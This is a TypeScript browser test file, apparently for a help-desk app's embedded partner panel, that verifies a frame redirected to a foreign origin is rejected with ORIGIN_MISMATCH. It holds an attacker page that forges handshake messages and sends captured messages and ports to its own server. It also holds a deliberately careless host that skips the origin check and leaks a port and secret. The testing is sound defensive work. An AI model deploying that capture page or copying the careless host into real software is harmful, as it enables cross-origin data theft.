import { at, openLinkedIssue, signIn, stateOf } from "./support/desk.js";
import { expect, test } from "./support/test.js";

/** What the attacker's page tells its own server, which remembers it when the frame is gone. */
interface Loot {
  hellos: number;
  /** Each message that anybody sent to the page, with how many ports came with it. */
  messages: { data: unknown; ports: number }[];
}

/**
 * A perfect hello, said again and again from wherever the page is, and everything that comes back. It stands at Mallory's
 * own address, in Mallory's place.
 */
const attacker = (loot: Loot) => (path: string) => {
  if (path.startsWith("/told?")) {
    const told = JSON.parse(new URLSearchParams(path.slice(6)).get("what") ?? "null") as
      | Loot["messages"][number]
      | "hello";
    if (told === "hello") loot.hellos += 1;
    else loot.messages.push(told);
    return { status: 204 };
  }
  return `<!doctype html><title>Evil</title><script>
    const tell = (what) => fetch("/told?what=" + encodeURIComponent(JSON.stringify(what)), { keepalive: true });
    const nonce = [...crypto.getRandomValues(new Uint8Array(32))].map((byte) => byte.toString(16).padStart(2, "0")).join("");
    addEventListener("message", ({ data, ports }) => {
      tell({ data, ports: ports.length });
      for (const port of ports) port.onmessage = ({ data }) => tell({ data, ports: 0 });
    });
    const say = () => {
      parent.postMessage({ "partner-panel": "hello", versions: ["1.0.0"], nonce }, "*");
      tell("hello");
    };
    say();
    setInterval(say, 100);
  </script>`;
};

/** A host that checks the source, as all do, and not the origin. */
const careless = (frame: string) => `<!doctype html><title>Careless</title><script>
  const frame = document.createElement("iframe");
  frame.src = ${JSON.stringify(frame)};
  addEventListener("message", (event) => {
    if (event.source !== frame.contentWindow || event.data["partner-panel"] !== "hello") return;
    const { port1, port2 } = new MessageChannel();
    const { nonce } = event.data;
    const welcome = { "partner-panel": "welcome", version: "1.0.0", nonce, instanceId: "1", grant: [], limits: {}, context: { ticketId: "T-42" } };
    event.source.postMessage(welcome, "*", [port2]);
    port1.postMessage("secret");
  });
  document.documentElement.append(frame);
</script>`;

test.describe("a frame that ends at another site than the manifest's", () => {
  test("is redirected there: a perfect hello gets nothing @cookies", async ({ ui, demo, site }) => {
    const loot: Loot = { hellos: 0, messages: [] };
    await demo.servers.mallory.close();
    await site("mallory", attacker(loot), Number(new URL(demo.addresses.mallory).port));
    await signIn(ui, demo, "ada", "/tickets/T-42?qa=redirect");
    await expect.poll(() => stateOf(ui)).toBe("error");
    await expect.poll(() => ui.text(`${at.panel} >> [part=error]`)).toContain("ORIGIN_MISMATCH");
    await expect.poll(() => loot.hellos, "the attacker's page ran").toBeGreaterThan(0);
    expect(loot.messages).toEqual([]);
    expect(await ui.visible(`${at.panel} >> iframe`)).toBe(false);
  });

  test("goes there once it was ready: its session ends, and a perfect hello gets nothing", async ({
    ui,
    demo,
    site,
  }) => {
    const loot: Loot = { hellos: 0, messages: [] };
    await demo.servers.mallory.close();
    const evil = await site("mallory", attacker(loot), Number(new URL(demo.addresses.mallory).port));
    const view = await openLinkedIssue(ui, demo, "ada");
    // Later, not now: the host takes the frame away as soon as it goes elsewhere, and the driver must have its answer by then.
    await view.eval((to) => {
      setTimeout(() => {
        location.href = to;
      }, 500);
    }, evil.origin);
    await expect.poll(() => stateOf(ui)).toBe("error");
    await expect.poll(() => ui.text(`${at.panel} >> [part=error]`)).toContain("ORIGIN_MISMATCH");
    await expect.poll(() => loot.hellos, "the attacker's page ran").toBeGreaterThan(0);
    expect(loot.messages).toEqual([]);
    // Desk itself is none the worse.
    expect(await ui.text("#ticket-subject")).not.toBeNull();
  });

  test("the control: a host that does not check the origin hands over its port", async ({ ui, site }) => {
    const loot: Loot = { hellos: 0, messages: [] };
    const evil = await site("mallory", attacker(loot));
    const partner = await site("partner", () => ({ status: 302, headers: { location: evil.origin } }));
    const host = await site("host", () => careless(partner.origin));
    await ui.goto(host.origin);
    await expect
      .poll(() => loot.messages)
      .toContainEqual({ data: expect.objectContaining({ context: { ticketId: "T-42" } }), ports: 1 });
    await expect.poll(() => loot.messages).toContainEqual({ data: "secret", ports: 0 });
  });
});

test("Mallory's own page, where Trackwell's frame was redirected, shows an error of the panel's", async ({
  ui,
  demo,
}) => {
  await signIn(ui, demo, "ada", "/tickets/T-42?qa=redirect");
  await expect
    .poll(() => ui.text(`${at.panel} >> [part=error]`))
    .toContain("Another site answered instead of Trackwell Issues");
  expect(await ui.text(`${at.panel} >> [part=error]`)).toContain("ORIGIN_MISMATCH");
  expect(await ui.errors()).toEqual([]);
});
